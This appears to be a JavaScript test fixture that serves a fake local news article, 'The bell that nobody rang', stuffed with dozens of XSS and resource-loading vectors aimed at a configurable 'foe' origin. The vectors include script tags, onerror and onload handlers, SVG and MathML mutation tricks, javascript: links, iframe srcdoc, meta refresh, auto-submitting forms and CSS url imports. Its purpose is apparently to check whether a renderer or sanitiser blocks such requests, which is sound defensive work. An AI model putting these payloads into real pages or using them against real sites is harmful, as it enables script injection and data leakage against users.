// An outlet whose page tries everything a page can do when somebody else shows it.
import { createServer } from "node:http";
import { once } from "node:events";

const PARAGRAPHS = [
  "The bell of Brandthaven hangs where it has hung since the second fire, above the fish market, and nobody has rung it for eleven years. The rope was taken down to be mended and has not come back.",
  "On the night of the ninth it rang all the same, four times, slowly, with as much time between the strokes as it takes to cross the square. Everybody agrees on the four. Nobody agrees on the rest.",
  "The sexton says that it was the wind. The harbour master, who was awake and keeps a book, has written “calm” into it for that night, and he is not a man who writes “calm” for company’s sake.",
  "So the council has done what councils do and ordered a rope. It will hang from the bell by Easter, in plain sight, with a knot at the end of it, so that next time there will at least be something to look at.",
];

/** Every way to run, ask, send or move that we know, each aimed at `foe`. */
const attacks = (foe) => `
<script>fetch("${foe}/script"); alert("script"); top.location = "${foe}/top";</script>
<script src="${foe}/script.js"></script>
<script type="module">import("${foe}/module.js");</script>
<img src="${foe}/broken.png" onerror="fetch('${foe}/onerror')" alt="">
<img src="data:image/png;base64,AAAA" onerror="fetch('${foe}/onerror-data')" alt="">
<img srcset="${foe}/set.png 2x" alt=""><picture><source srcset="${foe}/source.webp"><img src="${foe}/picture.png" alt=""></picture>
<svg onload="fetch('${foe}/svg')" width="9" height="9"><script>fetch("${foe}/svg-script")</script><use href="${foe}/use.svg#a"/><image href="${foe}/image.svg" width="9" height="9"/>
<foreignObject><iframe src="${foe}/frame-in-svg"></iframe></foreignObject><animate attributeName="x" onbegin="fetch('${foe}/onbegin')" dur="1s"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('${foe}/math')&gt;"></table></math>
<iframe srcdoc="&lt;script&gt;parent.fetch('${foe}/srcdoc')&lt;/script&gt;&lt;img src='${foe}/srcdoc.png'&gt;"></iframe>
<iframe src="${foe}/frame"></iframe><iframe src="javascript:fetch('${foe}/frame-js')"></iframe>
<object data="${foe}/object.swf"><embed src="${foe}/embed"></object>
<audio src="${foe}/audio.mp3" autoplay></audio><video src="${foe}/video.mp4" poster="${foe}/poster.png" autoplay muted></video>
<form action="${foe}/form" id="f"><input name="a" autofocus onfocus="fetch('${foe}/onfocus')"><input type="image" src="${foe}/input.png" alt=""><button formaction="${foe}/formaction">Send</button></form>
<script>document.getElementById("f").submit()</script>
<details open ontoggle="fetch('${foe}/ontoggle')"><summary>More</summary>More</details>
<template><img src="${foe}/template.png" alt=""></template>
<noscript><img src="${foe}/noscript.png" alt=""><p title="</noscript><img src=x onerror=fetch('${foe}/noscript')>">x</p></noscript>
<table background="${foe}/table.png"><tr><td background="${foe}/cell.png">x</td></tr></table>
<p style="background: url(${foe}/inline.png); list-style-image: url('${foe}/list.png')">Styled</p>
<a href="javascript:fetch('${foe}/link')">A link that is a program</a>
<a href="/next" ping="${foe}/ping">A plain link</a>
<marquee onstart="fetch('${foe}/marquee')">x</marquee>
<x-y onclick="fetch('${foe}/custom')">custom</x-y>
<style>@import "${foe}/import-in-body.css"; body::after { content: url(${foe}/content.png) } h1 { font-style: italic }</style>`;

/** The outlet: its origin, and the page. */
export async function trap(foe) {
  const html = `<!doctype html>
<html lang="en" manifest="${foe}/manifest">
<head>
<meta charset="utf-8">
<title>The bell that nobody rang | The Mole Gazette</title>
<meta property="og:title" content="The bell that nobody rang">
<meta property="og:site_name" content="The Mole Gazette">
<meta http-equiv="refresh" content="1;url=${foe}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="dns-prefetch" href="${foe}"><link rel="preconnect" href="${foe}"><link rel="prefetch" href="${foe}/prefetch">
<link rel="preload" as="image" href="${foe}/preload.png"><link rel="modulepreload" href="${foe}/modulepreload.js">
<link rel="stylesheet" href="${foe}/style.css"><link rel="icon" href="${foe}/icon.png"><link rel="manifest" href="${foe}/app.webmanifest">
<style>@import url("${foe}/import.css"); @font-face { font-family: x; src: url(${foe}/font.woff2) } body { font-family: x; background: u\\72l(${foe}/escaped.png), image-set("${foe}/image-set.png" 1x) }</style>
</head>
<body onload="fetch('${foe}/onload')" background="${foe}/body.png">
<main><article>
<h1>The bell that nobody rang</h1>
<p class="byline">By <a rel="author" href="/people">Ines Calder</a></p>
<p><time datetime="2026-03-14">14 March 2026</time></p>
${PARAGRAPHS.map((text) => `<p>${text}</p>`).join("\n")}
</article></main>
${attacks(foe)}
</body></html>`;
  const server = createServer((request, response) => {
    if (request.url === "/bell") {
      response.setHeader("content-type", "text/html; charset=utf-8");
      return response.end(html);
    }
    response.statusCode = 404;
    return response.end("nothing");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const origin = `http://127.0.0.1:${server.address().port}`;
  return { origin, page: `${origin}/bell`, close: () => new Promise((done) => server.close(done)) };
}
